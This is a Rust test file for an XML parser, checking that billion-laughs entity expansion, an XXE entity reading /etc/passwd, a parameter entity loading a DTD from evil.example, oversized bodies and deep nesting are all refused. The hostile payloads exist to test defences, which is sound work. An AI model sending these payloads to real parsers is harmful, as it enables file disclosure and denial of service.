//! Hostile documents fail cleanly, quickly and without touching the
//! network or the file system.

use cxml::status_code::StatusCode;
use cxml::tree::{self, TreeLimits, WellFormedness, WellFormednessKind};

fn error(bytes: &[u8]) -> WellFormedness {
    match tree::parse(bytes) {
        Ok(doc) => panic!("hostile document accepted, root <{}>", doc.root().name()),
        Err(e) => e,
    }
}

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let mut xml =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        xml.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    xml.push_str("]>\n<lolz>&lol9;</lolz>");
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert_eq!((e.line, e.column), (2, 1));
    assert!(
        e.message.contains("entity declarations are not accepted"),
        "{}",
        e.message
    );
    assert_eq!(e.status_code(), StatusCode::NOT_ACCEPTABLE);
}

#[test]
fn external_entity_is_refused() {
    let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE cXML [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n\
               <cXML><Header>&xxe;</Header></cXML>";
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert!(e.message.contains("`xxe`"), "{}", e.message);
    assert!(
        !e.message.contains("root:"),
        "file content leaked: {}",
        e.message
    );
}

#[test]
fn parameter_entity_is_refused() {
    let xml =
        "<!DOCTYPE cXML [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]><cXML/>";
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::EntityDeclaration);
    assert!(e.message.contains("`%remote`"), "{}", e.message);
}

#[test]
fn undeclared_entity_reference_is_refused() {
    let e = error(b"<cXML>\n  <a>&lol9;</a>\n</cXML>");
    assert_eq!(e.kind, WellFormednessKind::UndeclaredEntity);
    assert_eq!(e.line, 2);
}

#[test]
fn oversized_body_fails_before_parsing() {
    // 100 MB of well-formed-looking content: rejected on its length alone.
    let mut body = b"<cXML>".to_vec();
    body.resize(100 * 1024 * 1024, b'a');
    let e = error(&body);
    assert_eq!(e.kind, WellFormednessKind::TooLarge);
    assert!(e.message.contains("16777216"), "{}", e.message);
    assert_eq!(e.status_code(), StatusCode::DOCUMENT_SIZE_ERROR);
}

#[test]
fn custom_size_limit() {
    let limits = TreeLimits {
        max_bytes: 1024,
        ..TreeLimits::default()
    };
    let doc = format!("<a>{}</a>", "x".repeat(2000));
    let e = tree::parse_with(doc.as_bytes(), &limits).unwrap_err();
    assert_eq!(e.kind, WellFormednessKind::TooLarge);
}

#[test]
fn deep_nesting_is_refused() {
    let depth = 10_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = error(xml.as_bytes());
    assert_eq!(e.kind, WellFormednessKind::TooDeep);
    assert_eq!((e.line, e.column), (1, 256 * 3 + 1));
    assert!(e.message.contains("256"), "{}", e.message);
}

#[test]
fn depth_limit_cannot_be_raised_past_the_supported_maximum() {
    let limits = TreeLimits {
        max_depth: usize::MAX,
        ..TreeLimits::default()
    };
    let depth = 5_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = tree::parse_with(xml.as_bytes(), &limits).unwrap_err();
    assert_eq!(e.kind, WellFormednessKind::TooDeep);
    let ok = format!("{}{}", "<a>".repeat(300), "</a>".repeat(300));
    assert!(tree::parse_with(ok.as_bytes(), &limits).is_ok());
}

#[test]
fn garbage_is_not_a_document() {
    for junk in [
        &b"\x00\x01\x02"[..],
        b"<html><body>502 Bad Gateway",
        b"{\"json\": true}",
        b"\xff\xfe<\x00a\x00/\x00>\x00",
    ] {
        let e = error(junk);
        assert_eq!(e.status_code(), StatusCode::NOT_ACCEPTABLE, "{e}");
    }
}
